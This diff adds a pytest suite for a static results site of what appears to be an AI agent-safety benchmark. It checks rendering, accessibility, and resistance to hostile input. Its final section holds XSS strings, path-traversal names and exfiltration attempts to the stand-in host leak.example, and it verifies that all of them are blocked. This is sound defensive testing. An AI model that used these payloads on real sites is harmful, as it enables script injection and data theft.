@@ -1,0 +1,428 @@
+"""The site, in a real browser: it opens from disk, says what the frames say, can be used by everybody, and nothing gets in."""
+
+import asyncio
+import csv
+import re
+from concurrent.futures import ThreadPoolExecutor
+
+import pytest
+from browser import DESKTOP, PHONE, open_browser, open_page, violations
+from hostile import FLAG, MODELS, NAMES, PAYLOADS, write_hostile_runs
+
+from benchmark_lib import BadInput, Experiment, load_results
+from benchmark_lib.analysis import leaderboard
+from benchmark_lib.cli import main
+from benchmark_lib.reports.site import build_site
+from benchmark_lib.reports.site.charts import spread
+from benchmark_lib.reports.site.folder import Folder, page_name, site_folder
+from benchmark_lib.reports.site.words import POLICY, embedded, tidy
+
+CASES = "tracking,return_used,abusive,adversarial"
+PAGES = ("index", "traps", "cases", "transcripts", "compare", "methodology", "downloads")
+PLAIN = re.compile(r"[a-z0-9_-]+\.(html|css|js|svg|csv|parquet|json)")
+
+
+class HandsOver:
+    """An agent of one's own, which stands on the board as a model does."""
+
+    def reply(self, talk):
+        talk.call("hand_over_to_human", queue="general", reason="to be sure", summary="see the email")
+        return "A colleague will take it from here."
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with open_browser() as running:
+        yield running
+
+
+@pytest.fixture(scope="module")
+def runs(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("runs")
+    agents = [("scripted:oracle", None), ("scripted:tunable", None), ("scripted:comply_all", None), ("careful", HandsOver)]
+    with ThreadPoolExecutor(1) as thread:  # Playwright keeps a loop running in this one
+        for name, agent in agents:
+            out = folder / f"{name.replace(':', '-')}.deskbench"
+            experiment = Experiment(name, agent=agent, cases=CASES, trials=2, out=out, progress=False)
+            thread.submit(lambda: asyncio.run(experiment.run())).result()
+    return load_results(folder)
+
+
+@pytest.fixture(scope="module")
+def site(runs, tmp_path_factory):
+    return build_site(runs, tmp_path_factory.mktemp("out") / "site")
+
+
+def visit(page, site, name):
+    page.goto((site.path / f"{name}.html").as_uri())
+
+
+def first(site, folder, start=""):
+    """The name of the first page in a folder."""
+    found = sorted(p for p in site.path.glob(f"{folder}/**/{start}*.html"))
+    return str(found[0].relative_to(site.path)).removesuffix(".html")
+
+
+def names(page):
+    return page.locator("#board tr.row:visible th").locator("a").all_inner_texts()
+
+
+# --- what is built -----------------------------------------------------------------------------------------------------
+
+
+def test_every_conversation_case_and_model_has_a_page_and_the_index_is_small(site, runs):
+    assert site.pages["transcript"] == len(runs.conversations) == len(list(site.path.glob("transcripts/*/*.html")))
+    assert site.pages["case"] == runs.conversations["case_id"].nunique() and site.pages["model"] == 4
+    assert (site.path / "index.html").stat().st_size < 500_000
+    assert site.bytes == sum(p.stat().st_size for p in site.path.rglob("*") if p.is_file())
+
+
+def test_the_same_runs_make_the_same_pages(site, runs, tmp_path):
+    again = build_site(runs, tmp_path / "again")
+    pages = sorted(p.relative_to(site.path) for p in site.path.rglob("*.html"))
+    assert pages == sorted(p.relative_to(again.path) for p in again.path.rglob("*.html"))
+    assert all((site.path / p).read_bytes() == (again.path / p).read_bytes() for p in pages)
+
+
+def test_no_link_of_the_site_leads_nowhere(site):
+    missing = set()
+    for page in site.path.rglob("*.html"):
+        for address in re.findall(r'(?:href|src)="([^"#]+)(?:#[^"]*)?"', page.read_text()):
+            if not (page.parent / address).resolve().is_file():
+                missing.add(address)
+    assert not missing
+
+
+def test_every_page_stands_under_the_strict_policy_and_carries_no_inline_style_or_code(site):
+    for page in site.path.rglob("*.html"):
+        text = page.read_text()
+        assert f'<meta http-equiv="Content-Security-Policy" content="{POLICY.replace(chr(39), "&#39;")}">' in text, page
+        assert not re.search(r"<style|\sstyle=|\son[a-z]+=", text), page
+        assert re.findall(r"<script(?! type=\"application/json\")[^>]*>", text) == [f'<script src="{"../" * (len(page.relative_to(site.path).parts) - 1)}assets/site.js">']
+
+
+def test_the_files_to_take_away_agree_with_the_frames(site, runs):
+    import hashlib
+
+    import pandas as pd
+
+    rows = list(csv.DictReader((site.path / "downloads" / "conversations.csv").open()))
+    assert len(rows) == len(runs.conversations)
+    assert len(pd.read_parquet(site.path / "downloads" / "messages.parquet")) == len(runs.messages)
+    page = (site.path / "downloads.html").read_text()
+    assert all(hashlib.sha256(run.path.read_bytes()).hexdigest() in page for run in runs.runs)
+
+
+def test_only_a_site_is_ever_replaced_and_a_failure_leaves_the_old_one(tmp_path, runs):
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "thesis.txt").write_text("years of work")
+    with pytest.raises(BadInput, match="holds no site: give another --out"):
+        build_site(runs, mine)
+    old = tmp_path / "old"
+    with site_folder(old) as folder:
+        folder.write("site.json", "{}", "asset")
+    with pytest.raises(RuntimeError), site_folder(old) as folder:
+        folder.write("index.html", "half", "page")
+        raise RuntimeError("in the middle")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["mine", "old"] and [p.name for p in old.iterdir()] == ["site.json"]
+
+
+def test_the_command_says_what_it_built_and_refuses_an_empty_folder(runs, tmp_path, capsys):
+    assert main(["site", str(runs.runs[0].path), "--out", str(tmp_path / "s"), "--no-published"]) == 0
+    said = capsys.readouterr().out
+    assert f"{len(runs.conversations) // 4} transcripts" in said and "index.html" in said
+    assert "grok" not in (tmp_path / "s" / "index.html").read_text()
+    assert main(["site", str(tmp_path), "--out", str(tmp_path / "t")]) == 2
+    assert "no run files in" in capsys.readouterr().err
+
+
+def test_labels_never_cover_each_other_and_stay_inside():
+    for wanted in ([], [5.0], [10, 10, 10], [0, 1, 2, 99], [95, 96, 97, 98, 99]):
+        placed = spread(wanted, 12, 0, 100)
+        assert all(b - a >= 12 - 1e-9 for a, b in zip(placed, placed[1:])) and all(0 <= p <= 100 for p in placed)
+    assert len(spread([50.0] * 40, 12, 0, 100)) == 40
+
+
+def test_embedded_data_cannot_close_its_element_and_json_is_laid_out_for_reading():
+    assert "<" not in embedded({"a": "</script><!--"}) and "\u2028" not in embedded(["\u2028"])
+    assert tidy({"a": 1}) == '{"a":1}' and tidy({"a": "x" * 90, "b": [1]}).count("\n") == 3 and tidy("plain") == "plain"
+
+
+# --- used ----------------------------------------------------------------------------------------------------------------
+
+
+def test_the_board_sorts_filters_and_finds(browser, site, runs):
+    board = leaderboard(runs)
+    with open_page(browser) as (page, seen):
+        visit(page, site, "index")
+        assert names(page)[:4] == list(board["model"])
+        page.click("button[data-sort=resolved]")
+        measured = page.locator("tbody[data-block=scripted] tr.row td[data-key=resolved] .value").all_inner_texts()
+        assert [float(t.rstrip("%")) for t in measured] == sorted((round(100 * v, 1) for v in board[board["block"] == "scripted"]["resolved"]), reverse=True)
+        assert page.get_attribute("th[data-key=resolved]", "aria-sort") == "descending"
+        page.click("button[data-sort=resolved]")
+        assert page.get_attribute("th[data-key=resolved]", "aria-sort") == "ascending"
+        page.select_option("#sort", "unsafe")
+        assert "lowest first" in page.inner_text("#board-status")
+        page.click(".chip[data-value=published]")
+        assert len(names(page)) == 4 and page.locator(".picture a.published:visible").count() == 0
+        page.click('.chip[data-value="none (scripted)"]')
+        assert names(page) == ["careful"]
+        page.click('.chip[data-value="none (scripted)"]')
+        page.fill("#find", "tunab")
+        assert names(page) == ["scripted:tunable"] and "1 row" in page.inner_text("#board-status")
+        page.click("#columns")
+        assert page.locator("tr.row:visible td[data-key=tool_calls]").is_visible()
+        assert not seen.errors
+
+
+def test_the_blocks_are_labelled_and_only_measured_models_are_ranked(browser, site):
+    with open_page(browser) as (page, seen):
+        visit(page, site, "index")
+        heads = page.locator("#board tr.head .tag").all_inner_texts()
+        assert heads == ["Not ranked", "Scripted agents", "Published figures"]
+        assert page.locator("#board td.rank").all_inner_texts() == [""] * 28
+        assert "not measured here" in page.inner_text("tbody[data-block=published] tr.head")
+        assert not seen.errors
+
+
+def test_the_pictures_are_reached_by_keyboard_and_say_their_numbers(browser, site):
+    with open_page(browser) as (page, seen):
+        visit(page, site, "index")
+        mark = page.locator(".picture a").first
+        page.locator("#columns").focus()
+        for _ in range(200):
+            page.keyboard.press("Tab")
+            if page.evaluate("document.activeElement.closest('.picture a') !== null"):
+                break
+        assert page.evaluate("document.activeElement.closest('.picture a') !== null")
+        assert "unsafe" in page.inner_text(".tip")
+        page.keyboard.press("Escape")
+        assert not page.is_visible(".tip")
+        assert mark.get_attribute("aria-label") == mark.get_attribute("data-tip")
+        page.locator(".press .stack a").first.hover()
+        assert "trap talks" in page.inner_text(".tip")
+        assert not seen.errors
+
+
+def test_cases_and_transcripts_are_searched_and_opened(browser, site):
+    with open_page(browser) as (page, seen):
+        visit(page, site, "cases")
+        page.fill("#list-find", "TRACKING 1")
+        assert page.locator(".cases li:visible").count() >= 1 and "tracking_1" in page.inner_text(".cases li:visible >> nth=0")
+        visit(page, site, "transcripts")
+        page.select_option("#talk-model", label="scripted:comply_all")
+        page.select_option("#talk-state", label="unsafe")
+        page.fill("#talk-find", "vip")
+        assert page.inner_text("#talk-status") == "2 conversations."
+        page.click("#talk-list a >> nth=0")
+        page.wait_for_selector("html[data-ready]")
+        assert "unsafe" in page.inner_text(".verdict") and page.locator(".tool.forbidden").count() >= 1
+        page.locator(".tool summary").first.click()
+        assert page.locator(".tool pre").first.is_visible()
+        page.click(".crumb a >> nth=0")
+        assert page.inner_text("h1").startswith("scripted:comply_all")
+        assert not seen.errors
+
+
+def test_two_models_are_compared_and_the_choice_is_kept_in_the_address(browser, site):
+    with open_page(browser) as (page, seen):
+        visit(page, site, "compare")
+        page.select_option("#first", label="scripted:oracle (scripted)")
+        page.select_option("#second", label="scripted:comply_all (scripted)")
+        row = page.locator("#compare-rows tr", has_text="Unsafe actions")
+        assert [row.locator("td").nth(i).inner_text().split("\n")[0] for i in range(3)] == ["0", "18", "−18.0"]
+        count = page.locator("#differ-list li").count()
+        assert count >= 18 and f"{count} cases of" in page.inner_text("#differ-note")
+        address = page.url
+        page.click("#swap")
+        assert row.locator("td").nth(2).inner_text().startswith("+18.0")
+        page.goto("about:blank")
+        page.goto(address)
+        assert page.inner_text("#name-a") == "scripted:oracle"
+        page.click("#differ-list a.sq >> nth=0")
+        page.wait_for_selector(".talk")
+        assert not seen.errors
+
+
+def test_a_model_page_quotes_the_turn_that_decided_each_trap(browser, site):
+    with open_page(browser) as (page, seen):
+        visit(page, site, first(site, "models", "scripted-comply"))
+        assert page.locator("article.trap").count() == 18 and page.locator("article.trap.unsafe .quote .call").count() >= 16
+        assert "18" in page.inner_text(".cards") and page.locator("#metrics tbody tr").count() >= 11
+        assert page.locator("#all a.sq").count() == int(page.inner_text(".lede").split()[0])
+        assert not seen.errors
+
+
+def test_the_theme_is_chosen_and_kept(browser, site):
+    with open_page(browser, color_scheme="light") as (page, seen):
+        visit(page, site, "index")
+        paper = "getComputedStyle(document.body).backgroundColor"
+        light = page.evaluate(paper)
+        page.click("#theme")
+        dark = page.evaluate(paper)
+        visit(page, site, "cases")
+        assert page.evaluate(paper) == dark != light and not seen.errors
+    with open_page(browser, color_scheme="dark") as (page, seen):
+        visit(page, site, "index")
+        assert page.evaluate(paper) == dark and not seen.errors
+
+
+def test_no_page_scrolls_sideways_on_a_phone(browser, site):
+    with open_page(browser, PHONE) as (page, seen):
+        for name in (*PAGES, first(site, "models"), first(site, "cases"), first(site, "transcripts")):
+            visit(page, site, name)
+            assert page.evaluate("document.documentElement.scrollWidth") <= PHONE[0], name
+        visit(page, site, "index")
+        assert page.locator("#board td[data-label=Resolved]").first.is_visible()
+        assert not seen.errors
+
+
+def test_a_page_is_printed_with_everything_unfolded(browser, site, tmp_path):
+    with open_page(browser) as (page, seen):
+        for name in ("index", first(site, "transcripts")):
+            visit(page, site, name)
+            data = page.pdf(path=str(tmp_path / "page.pdf"), prefer_css_page_size=True)
+            assert data.startswith(b"%PDF") and len(data) > 5_000
+        page.evaluate("dispatchEvent(new Event('beforeprint'))")
+        assert page.locator("details:not([open])").count() == 0
+        page.evaluate("dispatchEvent(new Event('afterprint'))")
+        page.emulate_media(media="print")
+        assert not page.is_visible(".top") and not seen.errors
+
+
+def test_axe_finds_nothing_serious(browser, site):
+    own = (first(site, "models", "scripted-tunable"), first(site, "cases", "vip"), first(site, "transcripts"))
+    with open_page(browser) as (page, _):
+        for name in (*PAGES, *own):
+            visit(page, site, name)
+            page.evaluate("for (const part of document.querySelectorAll('.wrap > section > details, .tool')) part.open = true")
+            assert violations(page) == [], name
+    for scheme, size, pages in (("dark", DESKTOP, ("index", *own)), ("light", PHONE, ("index",))):
+        with open_page(browser, size, color_scheme=scheme) as (page, _):
+            for name in pages:
+                visit(page, site, name)
+                assert violations(page, rules=("color-contrast", "target-size")) == [], (name, scheme, size)
+
+
+def test_nothing_is_asked_of_a_network(browser, site):
+    with open_page(browser) as (page, seen):
+        for name in (*PAGES, first(site, "models"), first(site, "cases"), first(site, "transcripts")):
+            visit(page, site, name)
+        assert seen.addresses and seen.outside(site.path) == []
+
+
+# --- nothing gets in -----------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("hostile")
+    runs = write_hostile_runs(folder / "runs")
+    before = {p for p in folder.parent.rglob("*")}
+    made = build_site(runs, folder / "site")
+    new = {p for p in folder.parent.rglob("*")} - before
+    return made, new
+
+
+def test_no_name_becomes_a_path(hostile, tmp_path):
+    made, new = hostile
+    assert len(PAYLOADS) >= 60 and made.path in new
+    assert all(p == made.path or p.is_relative_to(made.path) for p in new)
+    assert all(PLAIN.fullmatch(p.name) if p.is_file() else re.fullmatch(r"[a-z0-9-]+", p.name) for p in new)
+    assert not any(p.is_symlink() for p in new)
+    pages = {page_name(n) for n in (*NAMES, *MODELS)}
+    assert len(pages) == len({*NAMES, *MODELS}) and all(re.fullmatch(r"[a-z0-9-]{1,60}", p) for p in pages)
+    for wrong in ("../x.html", "/tmp/x.html", "a/../../x"):
+        with pytest.raises(ValueError):
+            Folder(tmp_path).write(wrong, "x", "page")
+
+
+def test_nothing_hostile_runs_leaves_or_changes_a_page(hostile, browser):
+    made, _ = hostile
+    inspect = f"""() => {{
+        for (const part of document.querySelectorAll("details")) part.open = true;
+        const all = [...document.querySelectorAll("*")];
+        return {{
+            ran: window.{FLAG} !== undefined,
+            handlers: all.filter((e) => [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "style" || a.name === "srcdoc")).length,
+            links: all.flatMap((e) => [e.getAttribute("href"), e.getAttribute("src"), e.getAttribute("action")]).filter((a) => a && /^[a-z0-9+.-]*:|^\\/\\//i.test(a.trim())),
+            tags: [...new Set(all.map((e) => e.localName))],
+        }};
+    }}"""
+    known = {"html", "head", "meta", "title", "link", "script", "body", "a", "header", "div", "svg", "rect", "path", "nav", "button", "main", "section", "h1", "h2", "h3", "p",
+             "dl", "dt", "dd", "form", "label", "input", "select", "option", "fieldset", "legend", "span", "table", "caption", "thead", "tbody", "tr", "th", "td", "small",
+             "circle", "line", "text", "figure", "figcaption", "ul", "ol", "li", "b", "em", "strong", "details", "summary", "footer", "bdi", "code", "pre", "q", "blockquote",
+             "article", "wbr", "noscript", "mark", "ins", "del"}  # fmt: skip
+    with open_page(browser) as (page, seen):
+        for path in sorted(made.path.rglob("*.html")):
+            page.goto(path.as_uri())
+            found = page.evaluate(inspect)
+            assert not found["ran"] and not found["handlers"] and not found["links"], (path, found)
+            assert set(found["tags"]) <= known, (path, set(found["tags"]) - known)
+            assert page.url == path.as_uri() or path.name == "compare.html"
+        assert seen.dialogs == [] and seen.outside(made.path) == [] and seen.errors == []
+
+
+def test_hostile_text_is_shown_as_text(hostile, browser):
+    made, _ = hostile
+    pages = sorted(made.path.glob("transcripts/*/case-*.html"))
+    with open_page(browser) as (page, _):
+        shown = ""
+        for path in pages:
+            page.goto(path.as_uri())
+            shown += page.evaluate("document.querySelector('.talk').textContent")
+    for name in ("script", "close_json", "img_onerror", "attribute", "javascript_link", "iframe_srcdoc", "style", "jinja", "jinja_globals", "angular", "js_template", "entities"):
+        assert PAYLOADS[name] in shown, name
+    assert "1337" not in shown
+    hidden = re.findall("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]", shown)
+    assert not hidden and "[U+202E]" in shown and "[U+0000]" in shown and "[U+061C]" in shown and "(1,000,003 characters)" in shown
+
+
+def test_hostile_names_are_chosen_searched_and_compared_without_harm(hostile, browser):
+    made, _ = hostile
+    with open_page(browser) as (page, seen):
+        visit(page, made, "index")
+        page.select_option("#sort", "name")
+        page.fill("#find", "<script>")
+        assert len(names(page)) == 1
+        page.locator(".picture a").first.hover()
+        visit(page, made, "transcripts")
+        for index in range(len(MODELS)):
+            page.select_option("#talk-model", str(index))
+        page.select_option("#talk-model", "")
+        page.fill("#talk-find", "onerror")
+        page.click("#talk-list a >> nth=0")
+        page.wait_for_selector(".talk")
+        visit(page, made, "compare")
+        for index in range(len(MODELS)):
+            page.select_option("#second", str(index))
+        page.goto((made.path / "compare.html").as_uri() + "#a=javascript:window.__in=1&b=<img src=x onerror=window.__in=1>")
+        page.reload()
+        page.wait_for_selector("html[data-ready]")
+        assert page.evaluate(f"window.{FLAG}") is None
+        assert seen.dialogs == [] and seen.outside(made.path) == [] and seen.errors == []
+
+
+def test_the_policy_holds_even_where_something_got_in(site, browser):
+    attempts = {
+        "inline script": "const s = document.createElement('script'); s.text = 'window.__in=1'; document.head.append(s);",
+        "handler": "const b = document.createElement('button'); b.setAttribute('onclick', 'window.__in=1'); document.body.append(b); b.click();",
+        "markup": "document.body.innerHTML = '<img src=x onerror=window.__in=1>';",
+        "eval": "setTimeout('window.__in=1', 0);",
+        "picture": "new Image().src = 'https://leak.example/p.gif';",
+        "fetch": "fetch('https://leak.example/').catch(() => {});",
+        "frame": "const f = document.createElement('iframe'); f.src = 'https://leak.example/'; document.body.append(f);",
+        "form": "const f = document.createElement('form'); f.action = 'https://leak.example/'; document.body.append(f); f.submit();",
+        "style": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://leak.example/a.css'; document.head.append(l);",
+        "base": "const b = document.createElement('base'); b.href = 'https://leak.example/'; document.head.append(b);",
+    }
+    with open_page(browser) as (page, seen):
+        for name, code in attempts.items():
+            visit(page, site, "methodology")
+            page.evaluate(f"() => {{ try {{ {code} }} catch (error) {{ console.error(String(error)); }} }}")
+            page.evaluate("() => new Promise((done) => setTimeout(done, 30))")
+            assert page.evaluate("window.__in") is None, name
+            assert page.evaluate("document.baseURI").startswith("file:"), name
+        assert len(seen.errors) >= len(attempts) and len(seen.blocked) >= 2 and seen.outside(site.path) == []
